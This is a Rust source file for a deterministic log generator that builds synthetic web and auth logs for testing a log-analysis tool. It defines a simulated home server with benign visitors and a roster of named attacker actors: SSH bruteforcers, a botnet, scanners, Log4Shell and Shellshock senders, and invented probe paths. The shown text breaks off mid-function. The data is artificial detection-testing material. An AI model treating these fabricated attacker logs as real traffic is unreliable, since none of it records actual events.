//! `knocklog-gen`: the deterministic log generator. Owns the committed `sample-logs/`
//! tree (`sample`: a small home server's rotated /var/log with planted actors and a
//! README listing them) and the large benchmark corpus (`bench`: a realistic access-log
//! rotation of any size). Std, clap and flate2 only, so it builds without the library
//! and gives the same bytes on every run (seeded RNG, gzip headers with mtime 0).

use std::collections::{BTreeMap, BTreeSet};
use std::error::Error;
use std::fs::{self, File};
use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use clap::{Parser, Subcommand};

#[derive(Parser)]
#[command(
    name = "knocklog-gen",
    version,
    about = "Deterministic log generator: knocklog's sample tree and benchmark corpora"
)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand)]
enum Command {
    /// Write the small sample tree (apache2/, nginx/, auth.log*, README.md) into DIR.
    Sample {
        #[arg(long, value_name = "DIR")]
        out: PathBuf,
    },
    /// Write a large access-log rotation into DIR/plain (and a gzip copy into DIR/gz).
    Bench {
        #[arg(long, value_name = "DIR")]
        out: PathBuf,
        /// Total size of the plain files: 1GB, 200MB, 512MiB ... (KB/MB/GB are decimal).
        #[arg(long, default_value = "1GB", value_parser = parse_size)]
        size: u64,
        /// Number of rotated files: access.log, access.log.1, ... access.log.(N-1).
        #[arg(long, default_value_t = 8, value_parser = clap::value_parser!(u32).range(1..=10_000))]
        files: u32,
        /// Also write a gzip copy (level 6) of every file into DIR/gz.
        #[arg(long)]
        gzip: bool,
        /// Seed of the random stream (same seed, same bytes).
        #[arg(long, default_value_t = 1)]
        seed: u64,
    },
}

fn main() -> ExitCode {
    let cli = Cli::parse();
    let result: Result<(), Box<dyn Error>> = match cli.command {
        Command::Sample { out } => sample::write_tree(&out).map_err(Into::into),
        Command::Bench { out, size, files, gzip, seed } => {
            bench::run(&out, size, files, gzip, seed).map_err(Into::into)
        }
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("knocklog-gen: {e}");
            ExitCode::FAILURE
        }
    }
}

/// `1GB`, `200MB`, `1.5G`, `512MiB`, `4096`: decimal units unless spelled `KiB/MiB/GiB`.
fn parse_size(text: &str) -> Result<u64, String> {
    let text = text.trim();
    let split = text.find(|c: char| !(c.is_ascii_digit() || c == '.')).unwrap_or(text.len());
    let (number, unit) = text.split_at(split);
    let number: f64 = number.parse().map_err(|_| format!("not a size: {text:?} (try 1GB or 200MB)"))?;
    let multiplier: f64 = match unit.trim().to_ascii_lowercase().as_str() {
        "" | "b" => 1.0,
        "k" | "kb" => 1e3,
        "m" | "mb" => 1e6,
        "g" | "gb" => 1e9,
        "t" | "tb" => 1e12,
        "kib" => 1024.0,
        "mib" => 1024.0 * 1024.0,
        "gib" => 1024.0 * 1024.0 * 1024.0,
        other => return Err(format!("unknown size unit {other:?} (use KB, MB, GB or KiB, MiB, GiB)")),
    };
    let bytes = (number * multiplier).round();
    if !(1.0..=1e15).contains(&bytes) {
        return Err(format!("size out of range: {text:?}"));
    }
    Ok(bytes as u64)
}

/// Compresses `data` as gzip level 6 with a fixed header (mtime 0, no name), so the same
/// input always gives the same bytes.
fn gzip_bytes(data: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder =
        flate2::GzBuilder::new().mtime(0).write(Vec::with_capacity(data.len() / 4), flate2::Compression::new(6));
    encoder.write_all(data)?;
    encoder.finish()
}

/// splitmix64: tiny, fast, and good enough for synthetic logs. Every actor gets its own
/// stream (seeded from its name) so adding an actor does not reshuffle the others.
mod rng {
    pub struct Rng(u64);

    impl Rng {
        pub fn new(seed: u64) -> Rng {
            Rng(seed ^ 0x5DEE_CE66_D1CE_4E5B)
        }

        /// A stream seeded from a name (FNV-1a), stable across code changes elsewhere.
        pub fn named(name: &str) -> Rng {
            let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
            for byte in name.bytes() {
                hash = (hash ^ byte as u64).wrapping_mul(0x0100_0000_01b3);
            }
            Rng::new(hash)
        }

        pub fn next_u64(&mut self) -> u64 {
            self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.0;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }

        /// Uniform in `0..n` (Lemire's multiply-shift; the bias is irrelevant here).
        pub fn below(&mut self, n: u64) -> u64 {
            ((self.next_u64() as u128 * n as u128) >> 64) as u64
        }

        /// Uniform in `lo..hi`.
        pub fn range(&mut self, lo: i64, hi: i64) -> i64 {
            debug_assert!(lo < hi);
            lo + self.below((hi - lo) as u64) as i64
        }

        /// Uniform in `[0, 1)`.
        pub fn unit(&mut self) -> f64 {
            (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
        }

        pub fn chance(&mut self, p: f64) -> bool {
            self.unit() < p
        }

        pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
            &items[self.below(items.len() as u64) as usize]
        }

        /// Zipf(1)-like index in `0..n`: index 0 is the most popular, the tail is long.
        pub fn zipf(&mut self, n: usize) -> usize {
            let u = self.unit();
            let index = ((n as f64 + 1.0).ln() * u).exp() - 1.0;
            (index as usize).min(n - 1)
        }

        /// An ephemeral client port as Linux picks them.
        pub fn port(&mut self) -> u16 {
            self.range(32768, 61000) as u16
        }
    }
}

/// Civil time in UTC, microseconds since the epoch, and the four stamp layouts we write.
mod civil {
    use std::io::Write;

    pub const SEC: i64 = 1_000_000;
    pub const MIN: i64 = 60 * SEC;
    pub const HOUR: i64 = 60 * MIN;
    pub const DAY: i64 = 24 * HOUR;

    const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
    const WEEKDAYS: [&str; 7] = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];

    // The calendar arithmetic is knocklog's own (the generator and the parsers must agree).
    pub fn days_from_civil(year: i64, month: u32, day: u32) -> i64 {
        knocklog::time::days_from_civil(year as i32, month, day)
    }

    pub fn civil_from_days(days: i64) -> (i64, u32, u32) {
        let (y, m, d) = knocklog::time::civil_from_days(days);
        (y as i64, m, d)
    }

    pub fn at(year: i64, month: u32, day: u32, hour: i64, minute: i64, second: i64) -> i64 {
        days_from_civil(year, month, day) * DAY + hour * HOUR + minute * MIN + second * SEC
    }

    pub struct Parts {
        pub year: i64,
        pub month: u32,
        pub day: u32,
        pub hour: i64,
        pub minute: i64,
        pub second: i64,
        pub micros: i64,
        pub weekday: usize,
    }

    pub fn parts(ts: i64) -> Parts {
        let days = ts.div_euclid(DAY);
        let rest = ts.rem_euclid(DAY);
        let (year, month, day) = civil_from_days(days);
        Parts {
            year,
            month,
            day,
            hour: rest / HOUR,
            minute: rest % HOUR / MIN,
            second: rest % MIN / SEC,
            micros: rest % SEC,
            // 1970-01-01 was a Thursday.
            weekday: (days + 4).rem_euclid(7) as usize,
        }
    }

    /// Access logs: `06/Jan/2026:02:32:23 +0000`.
    pub fn clf(out: &mut Vec<u8>, ts: i64) {
        let p = parts(ts);
        let month = MONTHS[p.month as usize - 1];
        let _ = write!(out, "{:02}/{month}/{}:{:02}:{:02}:{:02} +0000", p.day, p.year, p.hour, p.minute, p.second);
    }

    /// Apache 2.4 error log: `Tue Jan 06 02:32:23.803330 2026`.
    pub fn apache_error(out: &mut Vec<u8>, ts: i64) {
        let p = parts(ts);
        let (weekday, month) = (WEEKDAYS[p.weekday], MONTHS[p.month as usize - 1]);
        let _ = write!(
            out,
            "{weekday} {month} {:02} {:02}:{:02}:{:02}.{:06} {}",
            p.day, p.hour, p.minute, p.second, p.micros, p.year
        );
    }

    /// rsyslog's RSYSLOG_FileFormat (Debian's default now): `2026-01-06T00:02:28.123456+00:00`.
    pub fn rsyslog(out: &mut Vec<u8>, ts: i64) {
        let p = parts(ts);
        let _ = write!(
            out,
            "{}-{:02}-{:02}T{:02}:{:02}:{:02}.{:06}+00:00",
            p.year, p.month, p.day, p.hour, p.minute, p.second, p.micros
        );
    }

    /// nginx error log: `2026/01/06 02:32:23`.
    pub fn nginx(out: &mut Vec<u8>, ts: i64) {
        let p = parts(ts);
        let _ = write!(out, "{}/{:02}/{:02} {:02}:{:02}:{:02}", p.year, p.month, p.day, p.hour, p.minute, p.second);
    }

    /// `2026-01-06 02:32:23` for the README.
    pub fn readable(ts: i64) -> String {
        let p = parts(ts);
        format!("{}-{:02}-{:02} {:02}:{:02}:{:02}", p.year, p.month, p.day, p.hour, p.minute, p.second)
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn round_trips_and_formats() {
            for days in [-1, 0, 10_957, 20_448, 20_461] {
                let (y, m, d) = civil_from_days(days);
                assert_eq!(days_from_civil(y, m, d), days);
            }
            let ts = at(2026, 1, 6, 2, 32, 23) + 803_330;
            let mut out = Vec::new();
            apache_error(&mut out, ts);
            assert_eq!(out, b"Tue Jan 06 02:32:23.803330 2026");
            out.clear();
            clf(&mut out, ts);
            assert_eq!(out, b"06/Jan/2026:02:32:23 +0000");
        }
    }
}

/// The committed sample tree: a home/office server (`homeserver`, alice's blog at
/// alice.example.net plus a Gitea behind nginx) from 2025-12-26 to 2026-01-08, UTC.
/// Every actor is one small function below; `README.md` is written from the same
/// constants and from per-IP tallies, so the documentation cannot drift from the data.
mod sample {
    use super::civil::{self, DAY, HOUR, MIN, SEC};
    use super::rng::Rng;
    use super::*;

    const HOSTNAME: &str = "homeserver";
    const SITE: &str = "https://alice.example.net";
    const GITEA: &str = "git.example.net";
    const DAYS: i64 = 14;

    fn start() -> i64 {
        civil::at(2025, 12, 26, 0, 0, 0)
    }

    /// Midnight (UTC) of day `d`, day 0 being 2025-12-26.
    fn day(d: i64) -> i64 {
        start() + d * DAY
    }

    fn at(d: i64, hour: i64, minute: i64, second: i64) -> i64 {
        day(d) + hour * HOUR + minute * MIN + second * SEC
    }

    /// Rotations happen when logrotate.timer fires just after midnight. Apache's access
    /// log rotates every 3-4 days; its error log skipped one (notifempty) and rsyslog's
    /// auth.log runs on its own schedule, so each family has its own cut points.
    fn access_cuts() -> Vec<i64> {
        vec![at(3, 0, 0, 1), at(7, 0, 0, 1), at(10, 0, 0, 1)]
    }
    fn error_cuts() -> Vec<i64> {
        vec![at(7, 0, 0, 1), at(10, 0, 0, 1)]
    }
    fn auth_cuts() -> Vec<i64> {
        vec![at(4, 0, 0, 1), at(8, 0, 0, 1)]
    }

    // ----------------------------------------------------------------------------------
    // Who is who. Public addresses are documentation ranges (RFC 5737 / RFC 3849) plus a
    // few public-looking 45.x/185.x ones for the botnet; 8.8.8.8 and 198.51.100.9 only
    // ever appear inside payloads and must never be reported as clients.
    // ----------------------------------------------------------------------------------
    const OWNER_DESKTOP: &str = "192.168.1.10";
    const OWNER_LAPTOP: &str = "192.168.1.23";
    const OWNER_PHONES: [(&str, i64); 4] =
        [("100.72.14.201", 2), ("100.72.14.201", 5), ("100.72.133.9", 9), ("100.72.61.77", 12)];
    const HOTEL: &str = "198.51.100.77";
    const AUTH_USER_GUESSER: &str = "203.0.113.7";
    const ALICE_PASSWORD_GUESSER: &str = "198.51.100.201";
    const SSH_BRUTEFORCER: &str = "198.51.100.23";
    const SSH_BOTNET: [&str; 10] = [
        "45.95.147.229",
        "45.148.10.183",
        "45.156.129.90",
        "185.224.128.17",
        "185.196.8.151",
        "185.242.226.33",
        "198.51.100.134",
        "203.0.113.140",
        "203.0.113.141",
        "203.0.113.142",
    ];
    const SSH_IPV6: &str = "2001:db8:bad::5";
    const LOG_INJECTOR: &str = "203.0.113.5";
    const NO_IDENT_SCANNER: &str = "198.51.100.150";
    const KEX_PROBER: &str = "203.0.113.120";
    const OLD_KEX_SCANNER: &str = "198.51.100.171";
    const ZGRAB: &str = "198.51.100.61";
    const MASSCAN: &str = "203.0.113.201";
    const NIKTO: &str = "203.0.113.88";
    const SQLMAP: &str = "198.51.100.45";
    const NUCLEI: &str = "198.51.100.104";
    const WEB_IPV6: &str = "2001:db8:4b1d::23";
    const WORDPRESS_BOTS: [&str; 5] =
        ["198.51.100.12", "198.51.100.13", "45.132.89.21", "185.81.157.200", "203.0.113.99"];
    const IOT_BOT: &str = "185.224.128.17"; // also in the ssh botnet
    const PHP_EXPLOITER: &str = "45.148.10.183"; // also in the ssh botnet
    const LOG4SHELL: &str = "203.0.113.50";
    const SHELLSHOCK: &str = "198.51.100.88";
    const TRAVERSAL: &str = "198.51.100.36";
    const PROXY_PROBER: &str = "203.0.113.199";
    const TLS_ON_PORT_80: &str = "203.0.113.150";
    const SNEAK: &str = "203.0.113.66";
    const CALLBACK_HOST: &str = "198.51.100.9";
    const GOOGLEBOTS: [&str; 3] = ["66.249.66.1", "66.249.66.33", "66.249.79.107"];
    const BINGBOTS: [&str; 2] = ["40.77.167.52", "157.55.39.10"];
    const FRESHRSS: &str = "192.0.2.230";
    const FEEDLY: &str = "192.0.2.231";
    const LETS_ENCRYPT: [&str; 3] = ["66.133.109.36", "64.78.149.164", "3.19.56.43"];
    const ODD_CRAWLER: &str = "192.0.2.222";

    /// Attack paths no public signature list knows: only attacker IPs request them.
    pub const PLANTED_PATHS: [&str; 4] =
        ["/cgi-mod/webctl.cgi", "/owa2/ecp/Current/exporttool.aspx", "/api/v2/.creds_backup.json", "/wsman/relay.php"];

    const BROWSERS: [&str; 9] = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:146.0) Gecko/20100101 Firefox/146.0",
    ];
    const OWNER_DESKTOP_UA: &str = BROWSERS[2];
    const OWNER_LAPTOP_UA: &str = BROWSERS[1];
    const OWNER_PHONE_UA: &str = BROWSERS[4];
    const CURL: &str = "curl/8.14.1";
    const HYDRA: &str = "Mozilla/5.0 (Hydra)";
    const OLD_CHROME: &str = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36";
    const IOT_UA: &str = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:76.0) Gecko/20100101 Firefox/76.0";

    struct Page {
        path: &'static str,
        bytes: u64,
        image: Option<(&'static str, u64)>,
        /// Day the page was published; nobody links to it before.
        from_day: i64,
    }

    const PAGES: [Page; 13] = [
        Page { path: "/", bytes: 9477, image: None, from_day: 0 },
        Page { path: "/blog/", bytes: 14872, image: None, from_day: 0 },
        Page {
            path: "/blog/2025/12/self-hosting-on-a-raspberry-pi/",
            bytes: 23110,
            image: Some(("/img/posts/pi-rack.jpg", 184_220)),
            from_day: 0,
        },
        Page {
            path: "/blog/2025/11/backing-up-with-restic/",
            bytes: 19874,
            image: Some(("/img/posts/restic-graph.png", 61240)),
            from_day: 0,
        },
        Page { path: "/blog/2025/10/my-emacs-setup/", bytes: 17342, image: None, from_day: 0 },
        Page { path: "/blog/2025/09/learning-rust-in-30-days/", bytes: 26002, image: None, from_day: 0 },
        Page { path: "/blog/2025/12/year-in-review-2025/", bytes: 15209, image: None, from_day: 5 },
        Page { path: "/blog/2026/01/happy-new-year/", bytes: 7640, image: None, from_day: 6 },
        Page { path: "/about/", bytes: 6231, image: Some(("/img/alice-hiking.jpg", 96512)), from_day: 0 },
        Page { path: "/projects/", bytes: 8120, image: None, from_day: 0 },
        Page { path: "/projects/knockknock/", bytes: 11877, image: None, from_day: 0 },
        Page { path: "/tags/linux/", bytes: 7311, image: None, from_day: 0 },
        Page { path: "/tags/rust/", bytes: 6987, image: None, from_day: 0 },
    ];
    const ASSETS: [(&str, u64); 4] =
        [("/css/site.css", 6120), ("/js/site.js", 2311), ("/img/avatar.png", 18231), ("/fonts/inter-var.woff2", 48256)];
    const EXTERNAL_REFERERS: [&str; 10] = [
        "-",
        "-",
        "-",
        "https://www.google.com/",
        "https://www.google.com/",
        "https://duckduckgo.com/",
        "https://www.bing.com/",
        "https://lobste.rs/",
        "https://mastodon.social/",
        "https://www.reddit.com/r/selfhosted/",
    ];
    const PRIVATE_PAGES: [(&str, u64); 7] = [
        ("/private/", 2210),
        ("/private/notes/", 4410),
        ("/private/notes/2026-01-02.md", 1893),
        ("/private/photos/", 8871),
        ("/private/photos/2025/xmas/IMG_4021.jpg", 2_318_842),
        ("/private/files/", 1530),
        ("/private/files/tax-2025.pdf", 412_003),
    ];

    // ----------------------------------------------------------------------------------
    // The world: five logs of (timestamp, line) and per-IP tallies for the README.
    // ----------------------------------------------------------------------------------
    struct Line {
        ts: i64,
        bytes: Vec<u8>,
        /// False only for the deliberately truncated last line of a rotated file.
        newline: bool,
    }

    #[derive(Default)]
    struct Tally {
        apache_access: u32,
        apache_error: u32,
        auth: u32,
        nginx_access: u32,
        nginx_error: u32,
        days: BTreeSet<i64>,
    }

    #[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
    enum LogId {
        ApacheAccess,
        ApacheError,
        Auth,
        NginxAccess,
        NginxError,
    }

    /// One access-log request, as Apache/nginx's combined format writes it. `request`
    /// is the request line already escaped the way the server escapes it.
    #[derive(Clone, Copy)]
    struct Hit<'a> {
        ip: &'a str,
        user: &'a str,
        request: &'a str,
        status: u16,
        bytes: u64,
        referer: &'a str,
        user_agent: &'a [u8],
    }

    impl<'a> Hit<'a> {
        fn new(ip: &'a str, request: &'a str, status: u16, bytes: u64, user_agent: &'a str) -> Self {
            Hit { ip, user: "-", request, status, bytes, referer: "-", user_agent: user_agent.as_bytes() }
        }
        fn user(mut self, user: &'a str) -> Self {
            self.user = user;
            self
        }
        fn referer(mut self, referer: &'a str) -> Self {
            self.referer = referer;
            self
        }
    }

    /// Hands out ids (process ids, nginx connection numbers) that grow with time and
    /// never repeat, like the kernel's and nginx's counters do.
    struct IdCounter {
        used: BTreeSet<u32>,
        base: u32,
        seconds_per_id: i64,
        epoch: i64,
    }

    impl IdCounter {
        fn alloc(&mut self, ts: i64) -> u32 {
            let mut id = self.base + ((ts - self.epoch).max(0) / SEC / self.seconds_per_id) as u32;
            while !self.used.insert(id) {
                id += 1;
            }
            id
        }
    }

    struct World {
        logs: BTreeMap<LogId, Vec<Line>>,
        tally: BTreeMap<String, Tally>,
        pids: IdCounter,
        nginx_connections: IdCounter,
        /// Apache child pids per restart period: (period start, [pid, pid]).
        apache_children: Vec<(i64, [u32; 2])>,
        /// Incidental choices (thread ids, worker picks) that no actor cares about.
        noise: Rng,
    }

    impl World {
        fn new() -> World {
            let mut world = World {
                logs: BTreeMap::new(),
                tally: BTreeMap::new(),
                pids: IdCounter { used: BTreeSet::new(), base: 104_000, seconds_per_id: 3, epoch: start() },
                nginx_connections: IdCounter {
                    used: BTreeSet::new(),
                    base: 1,
                    seconds_per_id: 90,
                    epoch: nginx_started(),
                },
                apache_children: Vec::new(),
                noise: Rng::named("world noise"),
            };
            // Apache's children are replaced on every graceful restart (rotations) and
            // on the reboot after the power cut.
            let mut restarts = vec![start()];
            restarts.extend(access_cuts());
            restarts.push(power_back());
            restarts.sort();
            for restart in restarts {
                let first = world.pids.alloc(restart);
                let second = world.pids.alloc(restart);
                world.apache_children.push((restart, [first, second]));
            }
            world
        }

        fn push(&mut self, log: LogId, ts: i64, bytes: Vec<u8>, ip: Option<&str>) {
            // The machine was off during the power cut: nothing was logged.
            if ts > power_cut() && ts < power_back() {
                return;
            }
            if let Some(ip) = ip {
                let tally = self.tally.entry(ip.to_string()).or_default();
                match log {
                    LogId::ApacheAccess => tally.apache_access += 1,
                    LogId::ApacheError => tally.apache_error += 1,
                    LogId::Auth => tally.auth += 1,
                    LogId::NginxAccess => tally.nginx_access += 1,
                    LogId::NginxError => tally.nginx_error += 1,
                }
                tally.days.insert((ts - start()).div_euclid(DAY));
            }
            self.logs.entry(log).or_default().push(Line { ts, bytes, newline: true });
        }

        fn render_hit(ts: i64, hit: &Hit) -> Vec<u8> {
            let mut line = Vec::with_capacity(256);
            line.extend_from_slice(hit.ip.as_bytes());
            line.extend_from_slice(b" - ");
            line.extend_from_slice(hit.user.as_bytes());
            line.extend_from_slice(b" [");
            civil::clf(&mut line, ts);
            let _ = write!(line, "] \"{}\" {} {} \"{}\" \"", hit.request, hit.status, hit.bytes, hit.referer);
            line.extend_from_slice(hit.user_agent);
            line.push(b'"');
            line
        }

        fn access(&mut self, ts: i64, hit: Hit) {
            let line = World::render_hit(ts, &hit);
            self.push(LogId::ApacheAccess, ts, line, Some(hit.ip));
        }

        fn nginx_access(&mut self, ts: i64, hit: Hit) {
            let line = World::render_hit(ts, &hit);
            self.push(LogId::NginxAccess, ts, line, Some(hit.ip));
        }

        fn apache_pid(&mut self, ts: i64) -> u32 {
            let children = self
                .apache_children
                .iter()
                .rev()
                .find(|(since, _)| *since <= ts)
                .map(|(_, pids)| *pids)
                .unwrap_or([0, 0]);
            children[self.noise.below(2) as usize]
        }

        /// `[Tue Jan 06 02:32:23.803330 2026] [module:level] [pid P:tid T] [client IP:port] msg`
        fn apache_error(&mut self, ts: i64, module_level: &str, client: Option<(&str, u16)>, message: &str) {
            let pid = self.apache_pid(ts);
            // pthread ids as glibc prints them: large, page-aligned-ish numbers.
            let tid = 139_826_000_000_000u64 + self.noise.below(400_000) * 4096;
            let mut line = Vec::with_capacity(200);
            line.push(b'[');
            civil::apache_error(&mut line, ts);
            let _ = write!(line, "] [{module_level}] [pid {pid}:tid {tid}] ");
            if let Some((ip, port)) = client {
                let _ = write!(line, "[client {ip}:{port}] ");
            }
            line.extend_from_slice(message.as_bytes());
            self.push(LogId::ApacheError, ts, line, client.map(|(ip, _)| ip));
        }

        /// Apache's main process notices (restarts): no client, parent pid.
        fn apache_notice(&mut self, ts: i64, module: &str, message: &str) {
            let mut line = Vec::with_capacity(160);
            line.push(b'[');
            civil::apache_error(&mut line, ts);
            let _ = write!(line, "] [{module}:notice] [pid 812:tid 139826411825024] {message}");
            self.push(LogId::ApacheError, ts, line, None);
        }

        /// `2026-01-06T00:02:28.123456+00:00 homeserver prog[pid]: msg`; `ip` is only
        /// for the tally (the message itself says who).
        fn auth(&mut self, ts: i64, program: &str, pid: u32, message: &str, ip: Option<&str>) {
            let mut line = Vec::with_capacity(160);
            civil::rsyslog(&mut line, ts);
            let _ = write!(line, " {HOSTNAME} {program}[{pid}]: {message}");
            self.push(LogId::Auth, ts, line, ip);
        }

        /// `2026/01/06 02:32:23 [error] 1234#1234: *17 msg, client: IP, server: ...`
        fn nginx_error(&mut self, ts: i64, level: &str, message: &str, client: Option<(&str, &str)>) {
            let mut line = Vec::with_capacity(220);
            civil::nginx(&mut line, ts);
            match client {
                Some((ip, request)) => {
                    let connection = self.nginx_connections.alloc(ts);
                    let _ = write!(
                        line,
                        " [{level}] 1234#1234: *{connection} {message}, client: {ip}, server: {GITEA}, request: \"{request}\", host: \"{GITEA}\""
                    );
                }
                None => {
                    let _ = write!(line, " [{level}] 1233#1233: {message}");
                }
            }
            self.push(LogId::NginxError, ts, line, client.map(|(ip, _)| ip));
        }

        fn raw(&mut self, log: LogId, ts: i64, bytes: Vec<u8>, ip: Option<&str>) {
            self.push(log, ts, bytes, ip);
        }

        fn pid(&mut self, ts: i64) -> u32 {
            self.pids.alloc(ts)
        }
    }

    /// A random instant on day `d` within `hours`, to the microsecond.
    fn random_time(rng: &mut Rng, d: i64, hours: std::ops::Range<i64>) -> i64 {
        let hour = rng.range(hours.start, hours.end);
        at(d, hour, rng.range(0, 60), rng.range(0, 60)) + micros(rng)
    }

    fn micros(rng: &mut Rng) -> i64 {
        rng.range(0, SEC)
    }

    fn not_modified_bytes(rng: &mut Rng) -> u64 {
        rng.range(180, 260) as u64
    }

    fn page_url(path: &str) -> String {
        format!("{SITE}{path}")
    }

    fn get(path: &str) -> String {
        format!("GET {path} HTTP/1.1")
    }

    // ----------------------------------------------------------------------------------
    // Benign traffic.
    // ----------------------------------------------------------------------------------

    /// One browser visit: a page, its assets (200 on a first visit, 304 later), the
    /// missing favicon, then a few more pages following internal links.
    #[allow(clippy::too_many_arguments)]
    fn browse(w: &mut World, rng: &mut Rng, ip: &str, ua: &str, start_ts: i64, first_visit: bool, pages: usize) -> i64 {
        let published: Vec<&Page> =
            PAGES.iter().filter(|p| p.from_day <= (start_ts - start()).div_euclid(DAY)).collect();
        let mut t = start_ts;
        let mut referer = rng.pick(&EXTERNAL_REFERERS).to_string();
        for n in 0..pages {
            let page = if n == 0 && rng.chance(0.6) {
                published[2 + rng.below(published.len() as u64 - 2) as usize]
            } else {
                *rng.pick(&published)
            };
            let request = get(page.path);
            w.access(t, Hit::new(ip, &request, 200, page.bytes + 260, ua).referer(&referer));
            let url = page_url(page.path);
            let mut asset_t = t;
            let mut assets: Vec<(&str, u64)> = if n == 0 { ASSETS.to_vec() } else { Vec::new() };
            if let Some(image) = page.image {
                assets.push(image);
            }
            for (path, bytes) in assets {
                asset_t += rng.range(40_000, 900_000);
                let request = get(path);
                if first_visit {
                    w.access(asset_t, Hit::new(ip, &request, 200, bytes + 250, ua).referer(&url));
                } else if rng.chance(0.5) {
                    let bytes = not_modified_bytes(rng);
                    w.access(asset_t, Hit::new(ip, &request, 304, bytes, ua).referer(&url));
                }
            }
            if n == 0 && first_visit {
                asset_t += rng.range(100_000, 600_000);
                w.access(asset_t, Hit::new(ip, "GET /favicon.ico HTTP/1.1", 404, 492, ua).referer(&url));
            }
            referer = url;
            t += rng.range(15 * SEC, 4 * MIN);
        }
        t
    }

    fn benign_visitors(w: &mut World) {
        let mut rng = Rng::named("benign visitors");
        let mut ips: Vec<String> = (0..40u64).map(|i| format!("192.0.2.{}", 10 + i * 5 + rng.below(5))).collect();
        ips.extend((0..4).map(|i| format!("2001:db8:1:{:x}::{:x}", 0x20 + i * 7, 0x1000 + rng.below(0xefff))));
        for (i, ip) in ips.iter().enumerate() {
            let ua = BROWSERS[(i * 7 + 3) % BROWSERS.len()];
            let visits = 1 + rng.below(3);
            let mut days: BTreeSet<i64> = BTreeSet::new();
            while days.len() < visits as usize {
                days.insert(rng.range(0, DAYS));
            }
            for (n, d) in days.into_iter().enumerate() {
                let hour = *rng.pick(&[7, 8, 9, 11, 12, 13, 14, 16, 17, 18, 19, 20, 21, 22, 23]);
                let t = at(d, hour, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
                let pages = 1 + rng.below(4) as usize;
                let end = browse(w, &mut rng, ip, ua, t, n == 0, pages);
                // Chrome preconnects a spare socket and never uses it: Apache logs a 408.
                if ua.contains("Chrome/") && (i == 0 || rng.chance(0.15)) {
                    w.access(end + 20 * SEC, Hit::new(ip, "-", 408, 0, "-"));
                }
            }
        }
    }

    fn search_bots(w: &mut World) {
        let mut rng = Rng::named("search bots");
        let googlebot = [
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/143.0.7499.169 Safari/537.36",
        ];
        let bingbot = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36";
        // Links that died in a site redesign: well-behaved bots keep asking for them.
        let gone = ["/blog/2024/03/old-post-removed/", "/tags/emacs/", "/index.xml"];
        for d in 0..DAYS {
            for (bot, ips, per_day) in [("google", &GOOGLEBOTS[..], 6), ("bing", &BINGBOTS[..], 3)] {
                let ip = *rng.pick(ips);
                let ua = if bot == "google" { *rng.pick(&googlebot) } else { bingbot };
                let mut t = at(d, rng.range(0, 6), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
                w.access(t, Hit::new(ip, "GET /robots.txt HTTP/1.1", 200, 412, ua));
                let published: Vec<&Page> = PAGES.iter().filter(|p| p.from_day <= d).collect();
                for _ in 0..rng.range(1, per_day) {
                    t += rng.range(10 * MIN, 150 * MIN);
                    let request;
                    let hit = if rng.chance(0.12) {
                        let path: &str = gone[rng.below(gone.len() as u64) as usize];
                        request = get(path);
                        Hit::new(ip, &request, 404, 492, ua)
                    } else if rng.chance(0.1) {
                        Hit::new(ip, "GET /sitemap.xml HTTP/1.1", 200, 3377, ua)
                    } else {
                        let page = rng.pick(&published);
                        request = get(page.path);
                        Hit::new(ip, &request, 200, page.bytes + 260, ua)
                    };
                    w.access(t, hit);
                }
            }
        }
    }

    fn feed_readers(w: &mut World) {
        let mut rng = Rng::named("feed readers");
        let readers = [
            (FRESHRSS, "FreshRSS/1.27.1 (Linux; https://freshrss.org)", 6),
            (FEEDLY, "Feedly/1.0 (+https://feedly.com/poller.html; 3 subscribers; )", 8),
        ];
        for (ip, ua, every_hours) in readers {
